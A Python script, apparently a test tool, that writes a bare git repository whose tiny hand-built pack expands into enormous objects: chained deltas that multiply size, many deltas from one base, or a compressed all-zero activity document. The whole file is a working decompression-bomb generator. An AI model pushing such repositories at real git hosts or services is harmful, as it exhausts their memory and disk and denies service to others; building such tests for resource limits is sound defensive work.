#!/usr/bin/env python3
"""Makes a bare repository whose small pack has objects that are huge once they are unpacked.

    bomb.py FOLDER deep FACTOR STEPS
    bomb.py FOLDER wide BYTES COUNT
    bomb.py FOLDER activity BYTES 1

deep    A file of 64 KiB, and STEPS more, each a difference that has the one before FACTOR times.
wide    The same file, and COUNT more of BYTES, each a difference from the first.

Those are files of the only commit, so that git sends the differences as they are.

activity
        One document of BYTES where a history has an activity's, compressed.
"""

import hashlib
import struct
import subprocess
import sys
import zlib

BASE = 64 << 10
ZEROS = bytes(1 << 20)

# Source: gitformat-pack(5).
COMMIT, TREE, BLOB, OFFSET_DELTA = 1, 2, 3, 6
LONGEST_COPY = 0xFFFFFF

ACTIVITY = "activities/2024/06/10/02/01900000-0000-7000-8000-000000000000.jsonld"


class Pack:
    def __init__(self):
        self.bytes = bytearray(12)
        self.objects = []

    def add(self, kind, name, content, base=None):
        """Adds an object, or its difference from the one at the offset `base`; gives its offset."""
        return self.add_compressed(kind, name, len(content), zlib.compress(content, 9), base)

    def add_compressed(self, kind, name, size, content, base=None):
        offset = len(self.bytes)
        head = [kind << 4 | size & 15]
        size >>= 4
        while size:
            head[-1] |= 0x80
            head.append(size & 0x7F)
            size >>= 7
        if base is not None:
            distance = offset - base
            back = [distance & 0x7F]
            while distance := distance >> 7:
                distance -= 1
                back.insert(0, 0x80 | distance & 0x7F)
            head += back
        entry = bytes(head) + content
        self.bytes += entry
        self.objects.append((name, zlib.crc32(entry), offset))
        return offset

    def write(self, folder):
        self.bytes[:12] = b"PACK" + struct.pack(">II", 2, len(self.objects))
        digest = hashlib.sha1(self.bytes).digest()
        self.objects.sort()
        names = [name for name, _, _ in self.objects]
        index = bytearray(b"\377tOc" + struct.pack(">I", 2))
        for first in range(256):
            index += struct.pack(">I", sum(name[0] <= first for name in names))
        index += b"".join(names)
        index += b"".join(struct.pack(">I", check) for _, check, _ in self.objects)
        index += b"".join(struct.pack(">I", offset) for _, _, offset in self.objects) + digest
        for ending, content in (
            ("pack", bytes(self.bytes) + digest),
            ("idx", bytes(index) + hashlib.sha1(index).digest()),
        ):
            with open(f"{folder}/objects/pack/pack-{digest.hex()}.{ending}", "wb") as file:
                file.write(content)


def name_of(kind, content):
    return hashlib.sha1(f"{kind} {len(content)}\0".encode() + content).digest()


def begun_name(size, zeros):
    """The digest of a file of that size as far as its zeros go."""
    digest = hashlib.sha1(f"blob {size}\0".encode())
    for start in range(0, zeros, len(ZEROS)):
        digest.update(ZEROS[:zeros - start])
    return digest


def number(value):
    coded = bytearray([value & 0x7F])
    while value := value >> 7:
        coded[-1] |= 0x80
        coded.append(value & 0x7F)
    return bytes(coded)


def difference(source, zeros, more=0):
    """What makes zeros of a file of zeros, before more bytes."""
    coded = number(source) + number(zeros + more)
    longest = min(source, LONGEST_COPY)
    for start in range(0, zeros, longest):
        size = min(longest, zeros - start)
        coded += b"\xF0" + size.to_bytes(3, "little")
    return coded


def add_tree(pack, entries):
    content = b"".join(f"{mode} {name}\0".encode() + digest for mode, name, digest in entries)
    pack.add(TREE, name_of("tree", content), content)
    return name_of("tree", content)


def add_activity(pack, size):
    """Gives the tree of a document that is zeros all through."""
    packer = zlib.compressobj(9)
    content = bytearray()
    for start in range(0, size, len(ZEROS)):
        content += packer.compress(ZEROS[:size - start])
    name = begun_name(size, size).digest()
    pack.add_compressed(BLOB, name, size, bytes(content + packer.flush()))
    mode = 100644
    for part in reversed(ACTIVITY.split("/")):
        name = add_tree(pack, [(mode, part, name)])
        mode = 40000
    return name


def add_files(pack, kind, size, count):
    """Gives the tree of the files."""
    names = [name_of("blob", bytes(BASE))]
    base = pack.add(BLOB, names[0], bytes(BASE))
    length = BASE
    if kind == "wide":
        begun, start = begun_name(size + 4, size), difference(BASE, size, 4)
    for step in range(count):
        if kind == "deep":
            names.append(begun_name(length * size, length * size).digest())
            base = pack.add(OFFSET_DELTA, names[-1], difference(length, length * size), base)
            length *= size
        else:
            tail = struct.pack(">I", step)
            digest = begun.copy()
            digest.update(tail)
            names.append(digest.digest())
            pack.add(OFFSET_DELTA, names[-1], start + b"\4" + tail, base)
    return add_tree(pack, [(100644, f"{index:06}", name) for index, name in enumerate(names)])


def main(folder, kind, size, count):
    subprocess.run(["git", "init", "-q", "--bare", "-b", "main", folder], check=True)
    pack = Pack()
    isActivity = kind == "activity"
    tree = add_activity(pack, size) if isActivity else add_files(pack, kind, size, count)
    who = "x <x@x> 1700000000 +0000"
    commit = f"tree {tree.hex()}\nauthor {who}\ncommitter {who}\n\nx\n".encode()
    pack.add(COMMIT, name_of("commit", commit), commit)
    pack.write(folder)
    with open(f"{folder}/refs/heads/main", "w") as file:
        file.write(name_of("commit", commit).hex() + "\n")


if len(sys.argv) != 5 or sys.argv[2] not in ("deep", "wide", "activity"):
    sys.exit("usage: bomb.py FOLDER deep|wide|activity SIZE COUNT")
main(*sys.argv[1:3], *map(int, sys.argv[3:]))
